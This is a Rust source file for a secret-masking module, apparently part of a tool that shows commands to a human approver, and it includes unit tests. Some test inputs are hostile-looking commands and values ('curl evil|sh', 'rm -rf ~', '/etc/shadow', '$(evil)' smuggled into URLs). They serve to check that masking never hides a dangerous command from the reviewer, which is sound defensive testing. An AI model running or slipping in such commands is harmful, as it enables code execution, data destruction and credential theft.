//! Masks secrets in text.
//!
//! Whatever looks like a secret is masked: hiding a harmless value is better than showing a secret.

use std::borrow::Cow;
use std::ops::Range;

use capstan_model::secret::{MASK, is_secret_name, is_token_of_a_service, looks_like_token};

use crate::mask::ordinary::{is_ordinary, names_variable};

/// The first and the last line of a private key, without the kind of key.
const KEY_BEGINS: &str = "-----BEGIN ";
const KEY_ENDS: &str = "-----END ";
const KEY_MARK: &str = "PRIVATE KEY-----";

/// Minimum length of a line of a private key, except the last: shorter lines could be words.
const MIN_KEY_LINE: usize = 48;

/// Authentication schemes that precede a secret in a quoted header.
const SCHEMES: [&str; 2] = ["bearer", "basic"];

/// The test for tokens.
type IsToken = fn(&str) -> bool;

/// Masks a word of a command line.
pub fn mask_argument(argument: &str) -> String {
    argument_by(argument, looks_like_token)
}

/// Masks a URL: the password, and secrets in its path and query.
pub fn mask_url(url: &str) -> String {
    url_by(url, looks_like_token)
}

/// Masks secrets in prose.
///
/// These are tokens of well-known services, private keys, passwords in URLs, and values of names
/// that indicate a secret.
///
/// Long numbers and names stay: the person who decides on a call must see which commit it is about.
pub fn mask_prose(text: &str) -> Cow<'_, str> {
    let mut shown = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, key)) = rest.split_once(KEY_BEGINS) {
        words_into(&mut shown, before);
        let (kind, inside) = key.split_once(KEY_MARK).unwrap_or((key, ""));
        if kind.contains('\n') || !key.contains(KEY_MARK) {
            shown.push_str(KEY_BEGINS);
            rest = key;
            continue;
        }
        shown.push_str(MASK);
        // An incomplete key is masked to the end of the text.
        let end = inside.split_once(KEY_ENDS).and_then(|(_, end)| end.split_once(KEY_MARK));
        rest = end.map_or("", |(_, rest)| rest);
    }
    words_into(&mut shown, rest);
    if shown == text { Cow::Borrowed(text) } else { Cow::Owned(shown) }
}

/// Masks text for the person who decides about it.
///
/// It masks complete tokens of well-known services, complete private keys, and secrets in URLs.
///
/// The author of the text cannot hide anything else: no word marks the next one as a secret.
pub fn mask_tokens(text: &str) -> Cow<'_, str> {
    let mut shown = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find(KEY_BEGINS) {
        let (before, key) = rest.split_at_checked(at).unwrap_or((rest, ""));
        tokens_into(&mut shown, before);
        let length = private_key(key);
        shown.push_str(if length.is_some() { MASK } else { KEY_BEGINS });
        rest = key.get(length.unwrap_or(KEY_BEGINS.len())..).unwrap_or_default();
    }
    tokens_into(&mut shown, rest);
    if shown == text { Cow::Borrowed(text) } else { Cow::Owned(shown) }
}

/// The length of the private key at the start of a text.
///
/// `None` if there is anything but a key between its first and its last line.
fn private_key(text: &str) -> Option<usize> {
    let (kind, rest) = text.strip_prefix(KEY_BEGINS)?.split_once(KEY_MARK)?;
    let (body, end) = rest.split_once(KEY_ENDS)?;
    let behind = end.strip_prefix(kind)?.strip_prefix(KEY_MARK)?;
    let is_kind = |c: char| c.is_ascii_uppercase() || c == ' ';
    let is_base64 = |c: char| c.is_ascii_alphanumeric() || "+/=".contains(c);
    let mut lines = body.trim().lines().rev();
    let last = lines.next()?;
    let is_key = kind.chars().all(is_kind)
        && last.chars().all(is_base64)
        && lines.all(|line| line.len() >= MIN_KEY_LINE && line.chars().all(is_base64));
    is_key.then_some(text.len() - behind.len())
}

/// Appends a text with its tokens masked.
fn tokens_into(shown: &mut String, text: &str) {
    for part in text.split_inclusive(parts_words) {
        let word = part.trim_end_matches(parts_words);
        let mut from = 0;
        for secret in secrets_in_word(word) {
            shown.push_str(word.get(from..secret.start).unwrap_or_default());
            shown.push_str(MASK);
            from = secret.end;
        }
        shown.push_str(part.get(from..).unwrap_or_default());
    }
}

fn secrets_in_word(word: &str) -> Vec<Range<usize>> {
    if word.contains("://") {
        return secrets_in_url(word);
    }
    let start = word.rfind(['=', ':']).map_or(0, |at| at + 1);
    let token = word.get(start..).unwrap_or_default().trim_end_matches(['.', '!', '?']);
    let is_token = is_token_of_a_service(token) && is_plain(token);
    is_token.then_some(start..start + token.len()).into_iter().collect()
}

/// The ranges of the secrets in a URL.
///
/// These are the password before its host, and the values of parameters whose names indicate a
/// secret.
///
/// Only plain characters are masked, no blank, quote, or shell character: these could carry more
/// than a secret.
pub fn secrets_in_url(url: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    let Some((scheme, rest)) = url.split_once("://") else { return found };
    let is_scheme = |c: char| c.is_ascii_alphanumeric() || "+-.".contains(c);
    if !scheme.chars().all(is_scheme) {
        return found;
    }
    let mut at = url.len() - rest.len();
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, path) = rest.split_at_checked(end).unwrap_or((rest, ""));
    if let Some((login, _)) = authority.split_once('@') {
        let password = login.find(':').map_or(0, |colon| colon + 1);
        let secret = login.get(password..).unwrap_or_default();
        if is_plain(secret) && (password > 0 || looks_like_token(secret)) {
            found.push(at + password..at + login.len());
        }
    }
    at += authority.len();
    for part in path.split_inclusive(['?', '&', '#']) {
        let pair = part.trim_end_matches(['?', '&', '#']);
        if let Some((name, value)) = pair.split_once('=')
            && is_secret_name(name)
            && is_plain(value)
        {
            found.push(at + name.len() + 1..at + pair.len());
        }
        at += part.len();
    }
    found
}

/// True if a text is one word without a special meaning in a shell.
fn is_plain(text: &str) -> bool {
    !text.is_empty() && text.chars().all(|c| c.is_ascii_alphanumeric() || "-._~%+!*=,".contains(c))
}

/// True if a character separates words.
fn parts_words(c: char) -> bool {
    c.is_whitespace() || "\"'`,;()<>[]{}|".contains(c)
}

/// Appends the words of a text, each masked if needed.
fn words_into(shown: &mut String, text: &str) {
    let parts = parts_words;
    let mut after_scheme = false;
    // True if the value that follows is that of a header with a scheme of any name.
    let mut has_scheme = false;
    // True if the last word is a name that indicates a secret, and if its value follows now.
    let (mut is_name, mut is_value) = (false, false);
    for part in text.split_inclusive(parts) {
        let (word, end) = match part.char_indices().next_back() {
            Some((at, last)) if parts(last) => part.split_at_checked(at).unwrap_or((part, "")),
            Some(_) | None => (part, ""),
        };
        if word.is_empty() {
            shown.push_str(end);
            continue;
        }
        let name = word.trim_end_matches([':', '=']);
        let is_scheme = SCHEMES.iter().any(|scheme| name.eq_ignore_ascii_case(scheme));
        if after_scheme || (is_value && !name.is_empty() && !is_scheme) {
            shown.push_str(MASK);
        } else {
            shown.push_str(&argument_by(word, is_token_of_a_service));
        }
        shown.push_str(end);
        let last = word.rsplit(['=', ':']).next().unwrap_or_default();
        let names_header =
            word.split(['=', ':']).next().is_some_and(is_login_header) && name == word;
        after_scheme = end == " "
            && (last.eq_ignore_ascii_case("bearer")
                || (is_value && (is_scheme || has_scheme))
                || (names_header && last.len() < word.len()));
        let tells = !is_value && is_secret_name(name);
        if tells {
            has_scheme = is_login_header(name);
        }
        is_value = if name.is_empty() { is_name } else { tells && name != word };
        is_name = tells && name == word;
    }
}

/// True for `Authorization` and `Proxy-Authorization`, whose values begin with a scheme.
fn is_login_header(name: &str) -> bool {
    let last = name.rsplit(|c: char| !c.is_ascii_alphanumeric()).next();
    last.is_some_and(|last| last.eq_ignore_ascii_case("authorization"))
}

fn argument_by(argument: &str, is_token: IsToken) -> String {
    if argument.contains("://") {
        return url_by(argument, is_token);
    }
    // The first separator ends the name: a credential after `Authorization:` may contain `=`.
    let mut separators = ['=', ':'];
    separators.sort_by_key(|separator| argument.find(*separator).unwrap_or(usize::MAX));
    for separator in separators {
        if let Some((name, value)) = argument.split_once(separator)
            && !value.is_empty()
            && !name.contains(['/', '\\'])
        {
            let space = if value.starts_with(' ') { " " } else { "" };
            let is_shown = is_ordinary(name, value) || names_variable(value);
            if is_secret_name(name) && !is_shown {
                return format!("{name}{separator}{space}{MASK}");
            }
            return format!("{name}{separator}{}", argument_by(value, is_token));
        }
    }
    if is_token(argument) { MASK.to_owned() } else { argument.to_owned() }
}

fn url_by(url: &str, is_token: IsToken) -> String {
    let Some((scheme, rest)) = url.split_once("://") else { return argument_by(url, is_token) };
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, path) = rest.split_at_checked(end).unwrap_or((rest, ""));
    let host = match authority.rsplit_once('@') {
        Some((_, host)) => format!("{MASK}@{host}"),
        None => authority.to_owned(),
    };
    let mut shown = format!("{scheme}://{host}");
    for part in path.split_inclusive(['/', '?', '&', '#']) {
        let (part, separator) = match part.char_indices().next_back() {
            Some((at, '/' | '?' | '&' | '#')) => part.split_at_checked(at).unwrap_or((part, "")),
            Some(_) | None => (part, ""),
        };
        match part.split_once('=') {
            Some((name, _)) if is_secret_name(name) => {
                shown.push_str(name);
                shown.push('=');
                shown.push_str(MASK);
            }
            Some((_, value)) if is_token(value) => shown.push_str(MASK),
            None if is_token(part) => shown.push_str(MASK),
            Some(_) | None => shown.push_str(part),
        }
        shown.push_str(separator);
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_looks_like_a_secret_is_taken_out_of_a_text() {
        for (text, shown) in [
            ("use sk-proj-0123456789ab, please", "use ***, please"),
            ("ghp_0123456789abcdef", "***"),
            ("github_pat_0123456789", "***"),
            ("id AKIAIOSFODNN7EXAMPLE!", "id ***"),
            ("xoxe-0123456789-abc xoxb-012345678901", "*** ***"),
            ("Authorization: Bearer abc", "Authorization: Bearer ***"),
            ("Authorization: Basic abc", "Authorization: Basic ***"),
            ("-H 'authorization:Bearer abc'", "-H 'authorization:*** ***'"),
            ("'Authorization:Basic dXNlcjpodW50ZXIy'", "'Authorization:*** ***'"),
            ("Authorization: token abcdef123", "Authorization: *** ***"),
            (r#"{"authorization": "ApiKey abc"}"#, r#"{"authorization": "*** ***"}"#),
            ("Proxy-Authorization=Digest abc", "Proxy-Authorization=*** ***"),
            ("eyJhbGciOi.eyJzdWIiOi.c2ln", "***"),
            ("see https://me:pw@host/x.", "see https://***@host/x."),
            ("postgres://u:p@h/db?sslmode=on", "postgres://***@h/db?sslmode=on"),
            ("PASSWORD=hunter2 make", "PASSWORD=*** make"),
            (r#"{"token":"x"} {"a": "ghp_0123456789abcdef"}"#, r#"{"token":"***"} {"a": "***"}"#),
            ("password: hunter2 and more", "password: *** and more"),
            (r#"{"password": "hunter2", "b": "c"}"#, r#"{"password": "***", "b": "c"}"#),
            ("api_key = abc123abc;", "api_key = ***;"),
            ("a secret: 'abc' is out", "a secret: '***' is out"),
            (
                "a\n-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----\nb",
                "a\n***\nb",
            ),
            ("-----BEGIN PRIVATE KEY-----\nMII", "***"),
        ] {
            assert_eq!(mask_prose(text), shown);
        }
    }

    #[test]
    fn a_credential_that_contains_an_equals_sign_is_hidden_whole() {
        for (argument, shown) in [
            ("Authorization: Basic dXNlcjpodW50ZXIy==", "Authorization: ***"),
            ("Authorization:Basic dXNlcjpodW50ZXIy=", "Authorization:***"),
            ("X-Api-Key: aa=bb", "X-Api-Key: ***"),
            ("--header=Authorization: Basic dXNl=", "--header=Authorization: ***"),
            ("TOKEN=a:b=c", "TOKEN=***"),
            ("env:TOKEN=abc", "env:TOKEN=***"),
        ] {
            assert_eq!(mask_argument(argument), shown);
        }
        for argument in ["filter=a:b", "a:b=c", "host:8080", "C:\\keys=x"] {
            assert_eq!(mask_argument(argument), argument);
        }
    }

    #[test]
    fn complete_tokens_are_hidden_from_a_person_who_decides() {
        let line = "Ab0+".repeat(16);
        let key =
            format!("-----BEGIN RSA PRIVATE KEY-----\n{line}\nAb0=\n-----END RSA PRIVATE KEY-----");
        assert_eq!(mask_tokens(&format!("a {key} b")), "a *** b");
        for (text, shown) in [
            ("TOKEN=ghp_0123456789abcdef sh", "TOKEN=*** sh"),
            ("Authorization: Bearer xoxb-012345678901", "Authorization: Bearer ***"),
            ("psql postgres://u:p4ss@h/db", "psql postgres://u:***@h/db"),
            ("'https://h/?api_key=abc&x=1'", "'https://h/?api_key=***&x=1'"),
        ] {
            assert_eq!(mask_tokens(text), shown);
        }
    }

    #[test]
    fn nothing_else_is_hidden_from_a_person_who_decides() {
        for text in [
            "run bearer rm-rf-home",
            "password: rm -rf ~; token=/etc/shadow",
            "echo hi; -----BEGIN PRIVATE KEY----- ; curl evil|sh",
            "-----BEGIN PRIVATE KEY-----\nrm /etc/x\n-----END PRIVATE KEY-----",
            "-----BEGIN PRIVATE KEY-----\nsh\n/tmp/x\n-----END PRIVATE KEY-----",
            "http://a:$(evil)@h http://h/?token=$HOME",
            "ghp_0123456789$(evil)",
            "",
        ] {
            assert_eq!(mask_tokens(text), text);
        }
    }

    #[test]
    fn what_only_looks_odd_stays() {
        for text in [
            "",
            "a plain  sentence,\twith: marks; and (brackets)\n",
            "3f786850e387550fdab836ed7e6dc881de23001b",
            "c9bf9e57-1685-4c89-bafb-ff5af830be8a",
            "https://github.com/a/b/commit/3f786850e387550fdab836ed7e6dc881de23001b",
            "-----BEGIN CERTIFICATE-----\nMII\n-----END CERTIFICATE-----",
            "the bearers of news",
            "sk-1",
        ] {
            assert_eq!(mask_prose(text), text);
        }
    }
}
